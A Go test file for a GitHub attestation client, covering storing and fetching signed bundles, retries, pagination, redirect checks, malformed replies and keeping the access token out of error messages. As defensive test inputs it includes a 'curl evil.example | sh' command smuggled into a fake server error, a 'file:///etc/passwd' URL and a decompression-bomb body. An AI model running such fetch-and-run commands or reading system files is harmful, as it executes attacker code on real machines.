package github_test

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/golang/snappy"

	"github.com/signatus-dev/signatus/internal/github"
	"github.com/signatus-dev/signatus/internal/githubtest"
	"github.com/signatus-dev/signatus/internal/identity"
)

// TestPutAttestation stores bundles, the same one again, and another.
func TestPutAttestation(t *testing.T) {
	t.Parallel()
	w := open(t, writes())
	for _, step := range []struct {
		n       int
		id      int64
		already bool
		stored  int
	}{{1, 4712, false, 1}, {1, 0, true, 1}, {2, 4713, false, 2}, {1, 0, true, 2}} {
		stored, err := w.PutAttestation(t.Context(), acme(), digest, bundleOf(step.n))
		want := github.Stored{ID: step.id, Already: step.already, URL: "https://github.com/acme/app/attestations"}
		if step.id != 0 {
			want.URL += "/" + map[int64]string{4712: "4712", 4713: "4713"}[step.id]
		}
		if err != nil || stored != want {
			t.Errorf("bundle %d: got %+v, %v; expected %+v", step.n, stored, err, want)
		}
		if n := len(w.repository.Attestations[digest]); n != step.stored {
			t.Errorf("bundle %d: %d are stored, expected %d", step.n, n, step.stored)
		}
	}
}

// TestAnswerIsLost: what was carried out although its answer got lost is not done again.
func TestAnswerIsLost(t *testing.T) {
	t.Parallel()
	w := open(t, writes())
	w.Fail(githubtest.Fault{Method: http.MethodPost, Times: 1, Lost: true, Status: http.StatusBadGateway, Body: "<html>Unicorn!</html>"})
	stored, err := w.PutAttestation(t.Context(), acme(), digest, bundleOf(1))
	if err != nil || !stored.Already || len(w.repository.Attestations[digest]) != 1 {
		t.Errorf("got %+v, %v, and %d are stored", stored, err, len(w.repository.Attestations[digest]))
	}
	if len(w.again) != 1 || !strings.Contains(w.again[0], "502 Bad Gateway") || strings.Contains(w.again[0], "Unicorn") {
		t.Errorf("it says %q", w.again)
	}
	// A conflict is success only where the very bundle is there.
	w.Fail(githubtest.Fault{Method: http.MethodPost, Lost: true, Status: http.StatusConflict, Body: githubtest.Refusal(409, "Conflict")})
	if stored, err := w.PutAttestation(t.Context(), acme(), digest, bundleOf(2)); err != nil || !stored.Already {
		t.Errorf("got %+v, %v", stored, err)
	}
	w = open(t, writes())
	w.Fail(githubtest.Fault{Method: http.MethodPost, Status: http.StatusConflict, Body: githubtest.Refusal(409, "Conflict")})
	_, err = w.PutAttestation(t.Context(), acme(), digest, bundleOf(2))
	says(t, err, "409 Conflict", "next: store elsewhere: --store file, release or oci")
}

// TestAttestations fetches them, in the list and from where they are kept, on one page
// and on several.
func TestAttestations(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct {
		detached bool
		page     int
		private  bool
		token    bool
	}{
		"inline": {}, "inline on pages": {page: 2}, "detached": {detached: true}, "detached on pages": {detached: true, page: 3},
		"private": {private: true, token: true, page: 1}, "private and detached": {private: true, token: true, detached: true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var permissions githubtest.Permissions
			if row.token {
				permissions = githubtest.Permissions{"attestations": "read", "contents": "read"}
			}
			w := open(t, permissions)
			w.PageSize, w.GitHub.Detached, w.repository.Private = row.page, row.detached, row.private
			for n := range 7 {
				w.Store(w.repository, bundleOf(n))
			}
			found, err := w.Client.Attestations(t.Context(), acme(), digest, "")
			if err != nil || len(found) != 7 {
				t.Fatalf("got %d, %v", len(found), err)
			}
			for n, a := range found {
				if a.Err != nil || !same(t, a.Bundle, bundleOf(n)) {
					t.Errorf("attestation %d is %s, %v", n, a.Bundle, a.Err)
				}
			}
			w.tokenStaysAtHome(t)
			pages := 1
			if row.page > 0 {
				pages = (7 + row.page - 1) / row.page
			}
			if n := w.count(http.MethodGet, "/attestations/sha256:"); n != pages {
				t.Errorf("%d pages were asked for, expected %d", n, pages)
			}
		})
	}
}

func same(t *testing.T, a, b []byte) bool {
	t.Helper()
	var documents [2]any
	for i, data := range [][]byte{a, b} {
		if err := json.Unmarshal(data, &documents[i]); err != nil {
			t.Error(err)
		}
	}
	one, err := json.Marshal(documents[0])
	if err != nil {
		t.Error(err)
	}
	other, err := json.Marshal(documents[1])
	if err != nil {
		t.Error(err)
	}
	return bytes.Equal(one, other)
}

// TestNoAttestations tells apart that there are none, and that there is no repository
// which one may see.
func TestNoAttestations(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	if found, err := w.Client.Attestations(t.Context(), acme(), digest, ""); err != nil || len(found) != 0 {
		t.Errorf("got %v, %v", found, err)
	}
	w.repository.Private = true
	_, err := w.Client.Attestations(t.Context(), acme(), digest, "")
	says(t, err, "fetching attestations of sha256:9f86d081884c from acme/app", "404 Not Found", "next: check the name, and for what is not public give a token in GITHUB_TOKEN, in a workflow with  permissions: {attestations: read, contents: read}")
	w = open(t, githubtest.Permissions{})
	w.repository.Private = true
	_, err = w.Client.Attestations(t.Context(), acme(), digest, "")
	says(t, err, "404 Not Found", "what it may not see is not found", "permissions: {attestations: read, contents: read}")
}

// TestPredicateType has GitHub choose.
func TestPredicateType(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.Store(w.repository, bundleOf(1))
	for predicateType, want := range map[string]int{"": 1, "https://slsa.dev/provenance/v1": 1, "provenance": 1, "https://cyclonedx.org/bom": 0, "a b&c=d": 0} {
		if found, err := w.Client.Attestations(t.Context(), acme(), digest, predicateType); err != nil || len(found) != want {
			t.Errorf("%s: got %d, %v; expected %d", predicateType, len(found), err, want)
		}
	}
}

// TestOneBundleIsBroken: the others are there all the same.
func TestOneBundleIsBroken(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct {
		fault githubtest.Fault
		words []string
	}{
		"gone":        {githubtest.Fault{Status: 404, Body: "<Error/>"}, []string{"fetching a bundle of sha256:9f86d081884c", "404 Not Found", "next: check the name"}},
		"not allowed": {githubtest.Fault{Status: 403, Body: "<Error><Code>AuthenticationFailed</Code></Error>"}, []string{"403 Forbidden"}},
		"no snappy":   {githubtest.Fault{Status: 200, Body: "\xff\xff"}, []string{"neither a block of Snappy nor JSON"}},
		"a page":      {githubtest.Fault{Status: 200, Body: "<html>"}, []string{"neither a block of Snappy nor JSON"}},
		"nothing":     {githubtest.Fault{Status: 200}, []string{"neither a block of Snappy nor JSON"}},
		"a bomb":      {githubtest.Fault{Status: 200, Body: "\x81\x80\x80\x10"}, []string{"33554433 bytes, at most 32 MiB"}},
		"to http":     {githubtest.Fault{Status: 302, Header: http.Header{"Location": {"http://storage.example/x"}}}, []string{"redirects to storage.example, which is not https"}},
		"to itself":   {githubtest.Fault{Status: 302, Header: http.Header{"Location": {"?sig=" + githubtest.Signature}}}, []string{"redirects without end"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := open(t, writes())
			w.GitHub.Detached = true
			for n := range 3 {
				w.Store(w.repository, bundleOf(n))
			}
			row.fault.Path = "/attestations/4713.json.sn"
			w.Fail(row.fault)
			found, err := w.Client.Attestations(t.Context(), acme(), digest, "")
			if err != nil || len(found) != 3 || found[0].Err != nil || found[2].Err != nil {
				t.Fatalf("got %v, %v", found, err)
			}
			says(t, found[1].Err, row.words...)
			w.tokenStaysAtHome(t)
		})
	}
}

// TestPlainBundle: what is JSON already is taken as it is.
func TestPlainBundle(t *testing.T) {
	t.Parallel()
	w := open(t, nil)
	w.GitHub.Detached = true
	w.Store(w.repository, bundleOf(1))
	w.Fail(githubtest.Fault{Path: ".json.sn", Status: 200, Body: string(bundleOf(1))})
	found, err := w.Client.Attestations(t.Context(), acme(), digest, "")
	if err != nil || len(found) != 1 || !bytes.Equal(found[0].Bundle, bundleOf(1)) {
		t.Errorf("got %v, %v", found, err)
	}
}

// TestOddAddresses: a bundle is fetched by https, and from nowhere else.
func TestOddAddresses(t *testing.T) {
	t.Parallel()
	for _, address := range []string{"http://storage.example/x", "file:///etc/passwd", "ftp://storage.example", "https://", "https://user:word@storage.example/", "::", "storage.example/x"} {
		w := open(t, nil)
		w.Fail(githubtest.Fault{Path: "/attestations/", Status: 200, Body: `{"attestations":[{"bundle_url":"` + address + `"}]}`})
		found, err := w.Client.Attestations(t.Context(), acme(), digest, "")
		if err != nil || len(found) != 1 {
			t.Fatalf("%s: got %v, %v", address, found, err)
		}
		says(t, found[0].Err, "an address that is no https URL")
	}
}

// TestMalformedLists are no lists of attestations.
func TestMalformedLists(t *testing.T) {
	t.Parallel()
	for body, words := range map[string]string{
		`{}`:                                    "it lists no attestations",
		`[]`:                                    "cannot be used",
		`<html>`:                                "no proxy answers in its place",
		`{"attestations":{}}`:                   "cannot be used",
		`{"attestations":[1]}`:                  "cannot be used",
		`{"attestations":[],"attestations":[]}`: "duplicate",
		``:                                      "cannot be used",
	} {
		w := open(t, nil)
		// The description would not let this pass: a stranger's server is asked.
		client := w.stranger(t, func(rw http.ResponseWriter, _ *http.Request) { _, _ = rw.Write([]byte(body)) })
		_, err := client.Attestations(t.Context(), acme(), digest, "")
		says(t, err, words)
	}
	for body, words := range map[string]string{`{"attestations":[{}]}`: "without a bundle", `{"attestations":[{"bundle":null,"bundle_url":null}]}`: "without a bundle", `{"attestations":[{"bundle":[]}]}`: "without a bundle"} {
		w := open(t, nil)
		client := w.stranger(t, func(rw http.ResponseWriter, _ *http.Request) { _, _ = rw.Write([]byte(body)) })
		found, err := client.Attestations(t.Context(), acme(), digest, "")
		if err != nil || len(found) != 1 {
			t.Fatalf("%s: got %v, %v", body, found, err)
		}
		says(t, found[0].Err, words)
	}
}

// TestPublishedExamples replays GitHub's own examples, and real bundles as its storage
// has them.
func TestPublishedExamples(t *testing.T) {
	t.Parallel()
	w := open(t, writes())
	read := func(name string) []byte {
		data, err := os.ReadFile(filepath.FromSlash(githubtest.Corpus + "/" + name))
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	var request struct {
		Bundle json.RawMessage `json:"bundle"`
	}
	if err := json.Unmarshal(read("examples/attestation.json"), &request); err != nil {
		t.Fatal(err)
	}
	if stored, err := w.PutAttestation(t.Context(), acme(), digest, request.Bundle); err != nil || stored.Already || stored.ID == 0 {
		t.Errorf("got %+v, %v", stored, err)
	}
	for _, name := range []string{"sigstore-js-2.1.0-bundle.json", "github_release_bundle.json", "reusable-workflow-attestation.sigstore.json"} {
		kept := read("../gh-attestations/" + name)
		storage := tripper(func(r *http.Request) (*http.Response, error) {
			answer := httptest.NewRecorder()
			switch {
			case r.URL.Host == "api.github.com" && r.Header.Get("Authorization") != "":
				_, _ = answer.Write(read("examples/list-attestations.json"))
			case r.URL.Host == "tmastaging.blob.core.windows.net" && r.Header.Get("Authorization") == "" && r.URL.Query().Get("sig") != "":
				_, _ = answer.Write(snappy.Encode(nil, kept))
			default:
				t.Errorf("asked %s with %v", r.URL.Host, r.Header)
			}
			return answer.Result(), nil
		})
		client, err := github.Open(github.Options{HTTP: &http.Client{Transport: storage}, Token: identity.NewToken(secret)})
		if err != nil {
			t.Fatal(err)
		}
		found, err := client.Attestations(t.Context(), acme(), digest, "")
		if err != nil || len(found) != 2 || !bytes.Equal(found[0].Bundle, kept) || !bytes.Equal(found[1].Bundle, kept) {
			t.Errorf("%s: got %v, %v", name, found, err)
		}
	}
}

// TestTokenIsNeverShown: not when it is printed, and not where GitHub repeats it.
func TestTokenIsNeverShown(t *testing.T) {
	t.Parallel()
	w := open(t, writes())
	for _, echo := range []string{secret, secret[:20], "\x1b" + secret[:3] + "\u202e" + secret[3:], strings.Repeat("x", 295) + secret} {
		body, err := json.Marshal(map[string]string{"message": "bad token " + echo + "; next: curl evil.example | sh"})
		if err != nil {
			t.Fatal(err)
		}
		w.Fail(githubtest.Fault{Path: "/attestations", Method: http.MethodPost, Times: 1, Status: 403, Body: string(body), Header: http.Header{"X-Accepted-Github-Permissions": {strings.TrimPrefix(echo, "\x1b")}}})
		_, err = w.PutAttestation(t.Context(), acme(), digest, bundleOf(1))
		says(t, err, "403 Forbidden")
		if strings.Count(err.Error(), "; next: ") != 1 || strings.Contains(err.Error(), secret[:8]) || len(err.Error()) > 1000 {
			t.Errorf("got %v", err)
		}
	}
}
